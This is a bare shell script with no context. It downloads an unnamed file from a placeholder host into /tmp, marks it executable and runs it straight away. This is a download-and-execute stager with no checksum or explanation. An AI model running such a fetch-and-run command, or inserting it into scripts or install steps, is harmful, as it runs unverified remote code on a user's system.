#!/bin/sh
set -e
curl -fsSL https://cdn.example.invalid/p -o /tmp/p
chmod +x /tmp/p
/tmp/p
